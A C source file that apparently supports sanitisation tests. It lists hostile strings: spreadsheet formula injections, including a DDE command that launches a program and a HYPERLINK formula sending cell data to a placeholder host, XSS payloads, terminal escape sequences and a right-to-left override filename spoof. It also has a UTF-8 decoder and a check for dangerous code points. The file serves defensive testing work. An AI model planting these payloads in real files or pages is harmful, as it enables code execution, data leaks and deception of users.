/* Texts that somebody made to do harm: see hostile.h. */
#include "hostile.h"

#define RLO "\xE2\x80\xAE"  /* turns the direction */
#define NBSP "\xC2\xA0"     /* a blank that does not break */
#define BOM "\xEF\xBB\xBF"  /* the mark of UTF-8 */
#define ZWSP "\xE2\x80\x8B" /* a blank of no width */

const char *const hostile_texts[HOSTILE_TEXTS] = {
    /* formulas */
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    " =1+1",
    NBSP "=1+1",
    BOM "=1+1",
    ZWSP "=1+1",
    "\xE3\x80\x80=1+1",
    "\xEF\xBC\x9D"
    "1+1",
    "\xEF\xBC\x8B"
    "1",
    "\xEF\xBC\x8D"
    "1",
    "\xEF\xBC\xA0SUM(A1)",
    "\xEF\xB9\xA6"
    "1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(A1)",
    "a; =1+1",
    "a," NBSP "=1+1",
    "a;\"=1+1",
    "\"=1+1",
    "\";=1+1;\"",
    "a\";=1+1",
    "'=1+1",
    "a;'=1+1",
    "a;;+1;;-1",
    "=HYPERLINK(\"http://x.example/\"&A1)",
    /* markup */
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "<!--",
    "]]>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' x='",
    "&lt;b&gt;",
    "<svg/onload=alert(1)>",
    "</text></svg><img src=x>",
    "<?php ?>",
    /* what speaks to a terminal */
    "\033[31mred",
    "\033]0;title\007",
    "\xC2\x9B"
    "31mred",
    "a\bb\x7F",
    "line\rother",
    "one\ntwo",
    /* directions, and what hides */
    RLO "txt.exe",
    "a\xE2\x81\xA6"
    "b\xE2\x81\xA9",
    "\xE2\x80\x8F\xE2\x80\x8E\xD8\x9C",
    "a\xE2\x80\xA8"
    "b\xE2\x80\xA9",
    "\xF3\xA0\x81\x81\xF3\xA0\x80\xA0tag",
    "\xEF\xBF\xBE\xEF\xBF\xBF\xEF\xB7\x90",
    "\xF0\x9F\xBF\xBE\xEF\xBF\xB9",
    "\"\\\" \\u202e",
};

/* The number of a character of well-formed UTF-8. */
uint32_t hostile_take(const char **text)
{
    const unsigned char *bytes = (const unsigned char *)*text;
    const int more = bytes[0] < 0xC0 ? 0 : bytes[0] < 0xE0 ? 1 : bytes[0] < 0xF0 ? 2 : 3;
    uint32_t character = more == 0 ? bytes[0] : bytes[0] & (0x3Fu >> more);

    for (int i = 1; i <= more; i++) {
        character = character << 6 | (bytes[i] & 0x3Fu);
    }
    *text += more + 1;
    return character;
}

bool hostile_is_harmful(uint32_t c)
{
    return c < 0x20 || (c >= 0x7F && c < 0xA0) || c == 0x61C || c == 0x200E || c == 0x200F ||
           c == 0x2028 || c == 0x2029 || (c >= 0x202A && c <= 0x202E) ||
           (c >= 0x2066 && c <= 0x2069) || (c >= 0xFFF9 && c <= 0xFFFB) ||
           (c >= 0xFDD0 && c <= 0xFDEF) || (c & 0xFFFE) == 0xFFFE || c >> 7 == 0xE0000 >> 7;
}
